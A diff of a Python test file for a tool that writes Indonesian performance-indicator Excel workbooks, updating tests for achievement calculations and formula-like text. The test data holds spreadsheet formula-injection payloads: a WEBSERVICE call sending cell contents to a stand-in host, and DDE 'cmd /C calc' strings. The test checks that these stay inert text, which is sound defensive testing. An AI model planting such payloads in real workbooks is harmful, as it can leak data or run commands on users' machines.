@@ -113,11 +113,11 @@ def test_capaian_larik_kosong_teks_dan_alasan():
 def test_capaian_polaritas_kosong_seperti_kolom_workbook():
     """A blank polaritas cell is not computable, exactly as the workbook's own capaian column says
     (kolom.capaian_sel), never silently positif; an omitted polaritas argument means positif."""
-    from ikuxl.kolom import Definisi, capaian_sel
+    from ikuxl.kolom import aturan, capaian_sel
 
     hasil = panggil("CAPAIAN", [[150], [150]], [[120], [120]], [["positif"], [None]])
-    assert hasil[0][0] == 80.0
-    assert hasil[1][0] == capaian_sel(Definisi(polaritas=None, sifat="kumulatif"), 150, 120)
+    assert hasil[0][0] == 80.0 == capaian_sel(aturan(True, "positif", None), 150, 120)
+    assert hasil[1][0] == capaian_sel(aturan(True, None, None), 150, 120)  # a row in force, polaritas blank
     assert hasil[1][0] == "tidak dapat dihitung: polaritas belum diisi"
     assert panggil("CAPAIAN", [[150]], [[120]]) == [[80.0]]
 
@@ -138,24 +138,27 @@ def test_nilai_rumus_dan_angka():
     assert angka[3][0].startswith('bukan angka: "1.500" ambigu')
 
 
-# Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean
-MIRIP_RUMUS = {"G5": '+WEBSERVICE("http://x.example/?"&A1)', "H5": "@SUM(1+1)*cmd|' /C calc'!A0",
-               "G6": "-2+3+cmd|' /C calc'!A0", "G7": " =1+1", "H6": '\t=HYPERLINK("http://x.example")',
-               "C5": "1/2", "D5": "TRUE", "H7": "'kutip"}
+# Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean, in
+# IKU cells whose text ikuxl's sheets hold as a value: indicators on Komponen, sasaran and jabatan on Ringkasan
+# (Realisasi shows IKU's cells through formulas)
+MIRIP_RUMUS = {"G5": '+WEBSERVICE("http://x.example/?"&A1)', "G8": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "G6": "-2+3+cmd|' /C calc'!A0", "G7": " =1+1", "G9": '\t=HYPERLINK("http://x.example")',
+               "C5": "1/2", "D5": "TRUE", "C6": "'kutip"}
 
 
 def test_teks_mirip_rumus_tetap_teks(tmp_path):
     """Every text goes to the live book as text (the apostrophe), whatever it starts with; a negative number
-    stays a number and ikuxl's own formulas stay formulas."""
+    typed on Komponen stays a number and ikuxl's own formulas (shared down a column in the file) stay formulas."""
     path = tmp_path / "a.xlsx"
     path.write_bytes((WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx").read_bytes())
     wb = openpyxl.load_workbook(path)
     for sel, teks in MIRIP_RUMUS.items():
         wb["IKU"][sel].value, wb["IKU"][sel].data_type = teks, "s"
-    wb["Realisasi"]["G6"] = -5
+    assert wb["Komponen"]["C6"].value == "Perbaiki Rumah Tidak Layak huni bagi MBR"  # TJB-02's only component
+    wb["Komponen"]["D6"] = -5  # its TW I
     wb.save(path)
     plan = rencana(baca_dokumen(path))[0]
-    rumus = {"=" + s.nilai.excel for lp in plan.lembar for s in lp.sel.values() if isinstance(s.nilai, Rumusan)}
+    rumus = {"=" + lp.rumus(r, c) for lp in plan.lembar for (r, c), s in lp.sel.items() if isinstance(s.nilai, Rumusan)}
     excel = Excel(path)
     for nama in ("validasi", "hitung_capaian", "perbarui_ringkasan"):
         aksi = jalankan(path, nama)
@@ -172,7 +175,8 @@ def test_teks_mirip_rumus_tetap_teks(tmp_path):
                     teks[s.nilai] = (sel.value, sel.data_type)
     assert {t: v for t, v in teks.items() if v != (t, "s")} == {}
     assert {t.strip() for t in MIRIP_RUMUS.values()} <= teks.keys()  # leading blanks are trimmed on reading
-    assert excel.wb["Realisasi"]["G6"].value == -5
+    assert excel.wb["Komponen"]["D6"].value == -5
+    assert excel.wb["Realisasi"]["K6"].value == "=" + plan["Realisasi"].rumus(6, 11)  # TJB-02's Realisasi TW I
 
 
 def test_lembar_berganti_huruf_dibaca_seperti_excel(tmp_path):
